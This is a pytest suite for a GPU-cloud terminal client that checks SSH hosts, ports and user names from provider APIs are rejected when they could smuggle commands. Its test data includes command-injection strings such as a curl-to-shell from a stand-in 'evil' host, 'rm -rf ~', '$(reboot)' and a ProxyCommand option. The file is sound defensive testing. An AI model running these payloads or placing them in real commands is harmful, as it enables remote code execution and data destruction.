"""Item 6: SSH endpoints and public ports are validated before any command is built from them."""

from __future__ import annotations

import shlex
from typing import Any

import httpx
import pytest
from hostile import Router, build, client_for, graphql

from computehub_tui.domain.models import SshEndpoint, public_address

INJECTIONS = [
    "ssh1.vast.ai;curl${IFS}evil|sh",
    "ssh1.vast.ai && rm -rf ~",
    "$(reboot).vast.ai",
    "-oProxyCommand=sh -c evil",
    "host`id`",
    "host name",
    "ssh1.vast.ai\n",
    "a" * 64 + ".example.com",
    "under_score.example.com",
    "-leading.example.com",
    "1.2.3.999",
    "fe80::1%$(evil)",
    "",
]


@pytest.mark.parametrize("host", INJECTIONS)
def test_hosts_that_could_smuggle_a_command_are_refused(host: str) -> None:
    assert SshEndpoint.parse(host, 22) is None
    assert public_address(host, 22) is None


@pytest.mark.parametrize("host, expected", [
    ("ssh1.vast.ai", "ssh1.vast.ai"),
    ("ssh1.vast.ai.", "ssh1.vast.ai"),
    ("203.0.113.7", "203.0.113.7"),
    ("2001:db8::1", "2001:db8::1"),
    ("[2001:db8::1]", "2001:db8::1"),
    ("xn--bcher-kva.example", "xn--bcher-kva.example"),
])
def test_real_host_names_and_addresses_are_accepted(host: str, expected: str) -> None:
    endpoint = SshEndpoint.parse(host, "2200", "ubuntu")
    assert endpoint is not None and endpoint.host == expected
    assert shlex.split(endpoint.command) == endpoint.argv == ["ssh", "-p", "2200", f"ubuntu@{expected}"]


@pytest.mark.parametrize("port", [0, -1, 65536, 10**12, "22; ls", "0x16", True, 22.5, None, "abc"])
def test_ports_outside_1_to_65535_are_refused(port: Any) -> None:
    assert SshEndpoint.parse("ssh1.vast.ai", port) is None
    assert public_address("203.0.113.7", port) is None


@pytest.mark.parametrize("user", ["root;id", "-oX", "a b", "", "x" * 33, "$(id)", "9root", None])
def test_users_that_are_not_plain_names_are_refused(user: Any) -> None:
    assert SshEndpoint.parse("ssh1.vast.ai", 22, user) is None


def test_an_ipv6_public_port_is_bracketed() -> None:
    assert public_address("2001:db8::1", 8888) == "[2001:db8::1]:8888"
    assert public_address("203.0.113.7", "8888") == "203.0.113.7:8888"



EVIL_HOST = "ssh1.vast.ai;curl${IFS}evil|sh"


def markets() -> dict[str, Router]:
    vast_row = {"id": 1, "actual_status": "running", "num_gpus": 1, "ssh_host": EVIL_HOST, "ssh_port": 2200,
                "public_ipaddr": "203.0.113.7;id", "ports": {"8888/tcp": [{"HostPort": "41000"}],
                                                            "22/tcp; rm": [{"HostPort": "41022"}]}}
    pod = {"id": "p", "desiredStatus": "RUNNING", "gpuCount": 1, "runtime": {"ports": [
        {"ip": EVIL_HOST, "isIpPublic": True, "privatePort": 22, "publicPort": 40122, "type": "tcp"},
        {"ip": "198.51.100.4", "isIpPublic": True, "privatePort": 8888, "publicPort": 99999, "type": "http"},
        {"ip": "198.51.100.4", "isIpPublic": True, "privatePort": 7000, "publicPort": 40700, "type": "tcp;x"},
    ]}}
    td_detail = {"data": {"id": "t", "status": "running", "ipAddress": EVIL_HOST,
                          "portForwards": [{"internal_port": 22, "external_port": 40022}]}}
    return {
        "vast": Router().on("GET", "/instances/", {"instances": [vast_row]}),
        "runpod": Router().on("POST", "/graphql", graphql({"myself": {"pods": [pod]}})),
        "lambda": Router().on("GET", "/instances", {"data": [{"id": "l", "status": "active", "ip": EVIL_HOST}]}),
        "tensordock": Router().on("GET", "/instances/t", td_detail)
        .on("GET", "/instances", {"data": [{"id": "t", "status": "running"}]}),
    }


@pytest.mark.parametrize("name", ["vast", "runpod", "lambda", "tensordock"])
async def test_adapters_give_no_ssh_command_for_an_injected_address(
    name: str, clients: list[httpx.AsyncClient]
) -> None:
    client = client_for(markets()[name])
    clients.append(client)
    provider: Any = build(name, client)
    [instance] = await provider.list_instances()
    assert instance.ssh is None
    assert "provider sent an invalid SSH address" in instance.status_message
    assert instance.ports == {}, instance.ports
    assert "evil" not in str(instance.to_json())
